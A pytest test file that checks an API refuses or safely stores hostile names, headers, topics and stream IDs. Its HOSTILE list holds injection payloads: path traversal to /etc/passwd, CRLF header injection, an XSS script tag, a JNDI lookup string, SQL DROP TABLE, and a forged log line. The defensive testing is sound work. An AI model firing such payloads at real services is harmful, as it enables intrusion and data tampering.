"""Names and headers that mean something else to somebody further on: paths, headers, topics, logs."""

from __future__ import annotations

import logging
import socket
from urllib.parse import quote, urlsplit

import httpx
import pytest

from tests.api.conftest import OwnSource
from tests.api.harness import Running, history

HOSTILE = [
    "a/b",
    "../../etc/passwd",
    "..",
    ".",
    "a\\b",
    "a\r\nSet-Cookie: b=1",
    "a\nb",
    "a\x00b",
    "a b",
    "a%2Fb",
    "a;b",
    "a?b=c",
    "a#b",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.org/a}",
    "{0.__class__}",
    "%s%n",
    "'; DROP TABLE records; --",
    "é",
    "\u202egnp",
    "a" * 300,
    "",
]


def encoded(name: str) -> str:
    return quote(name, safe="")


@pytest.mark.parametrize("name", HOSTILE)
def test_an_id_that_is_none_is_refused_wherever_it_stands(
    client: httpx.Client, source: OwnSource, name: str
) -> None:
    body = source.body("q")
    answers = [
        client.put(f"/v1/queries/{encoded(name)}", json={**body, "id": name}),
        client.post("/v1/queries", json={**body, "id": name}),
        client.put(f"/v1/sources/{encoded(name)}", json={"attributes": {"x": "number"}}),
        client.put(
            f"/v1/sources/{source.name}-topic",
            json={"attributes": {"x": "number"}, "topic": name},
        ),
        client.put(
            f"/v1/collections/{encoded(name)}?source={source.name}",
            content=b"id,x\na,1\n",
            headers={"Content-Type": "text/csv"},
        ),
    ]
    assert all(answer.status_code in (404, 405, 422) for answer in answers), answers
    for answer in answers:
        assert "set-cookie" not in answer.headers
        assert answer.headers["content-type"] == "application/problem+json"
        assert "\n" not in answer.text, "JSON has no line of its own"
    names = [one["name"] for one in client.get("/v1/sources").json()["sources"]]
    assert name not in names
    assert f"{source.name}-topic" not in names


@pytest.mark.parametrize("name", [name for name in HOSTILE if 0 < len(name) <= 256])
def test_a_stream_id_may_be_any_text_and_stays_one(
    client: httpx.Client, source: OwnSource, name: str
) -> None:
    source.register("q")
    (match, border) = source.send({"stream_id": name, "x": 1})["outputs"]
    assert match["key"] == border["key"] == match["value"]["stream_id"] == name
    path = f"/v1/streams/{encoded(name)}"
    if name in (".", ".."):  # a client takes such steps before it sends them
        return
    view = client.get(path, params={"source": source.name})
    assert view.json()["stream_id"] == name
    assert client.delete(path, params={"source": source.name}).status_code == 204
    assert client.get(path, params={"source": source.name}).status_code == 404


@pytest.mark.parametrize("given", ["a\r\nSet-Cookie: b=1", "a\nb", "a\rb", "a\x00b"])
def test_a_header_with_a_line_break_is_no_header(service: Running, source: OwnSource, given: str) -> None:
    path = f"/v1/queries/{source.id('q')}"
    body = b'{"source": "%s", "where": "x > 0"}' % source.name.encode()
    head = f"PUT {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Actor: {given}\r\n"
    address = urlsplit(service.url)
    with socket.create_connection((address.hostname, address.port), timeout=10) as connection:
        connection.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        answer = b""
        while received := connection.recv(65_536):
            answer += received
    status = int(answer.split()[1])
    assert b"set-cookie" not in answer.lower()
    if given.startswith("a\r\n"):
        assert status == 201, "two headers, of which the second means nothing"
    else:
        assert status == 400
    actors = [entry["by"] for entry in history(service.client, query=source.id("q"), limit=10_000)]
    assert actors == (["a"] if status == 201 else [])


@pytest.mark.parametrize("actor", ["${jndi:ldap://example.org/a}", "<b>ana</b>", "ana\t; by=bob", "a" * 200])
def test_an_actor_is_kept_as_the_text_that_it_is(client: httpx.Client, source: OwnSource, actor: str) -> None:
    path = f"/v1/queries/{source.id('q')}"
    client.put(path, json=source.body("q"), headers={"X-Actor": actor}).raise_for_status()
    (entry,) = history(client, query=source.id("q"), limit=10_000)
    assert entry["by"] == actor


def test_what_clients_send_makes_no_lines_in_the_log(
    client: httpx.Client, source: OwnSource, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="rangewatch")
    forged = "x\n2026-01-01 ERROR rangewatch: forged"
    client.get(f"/v1/queries/{encoded(forged)}", headers={"User-Agent": "forged"})
    client.post("/v1/queries", json=source.body("q", forged))
    source.send({"stream_id": forged, "x": "forged"})
    assert "forged" not in caplog.text
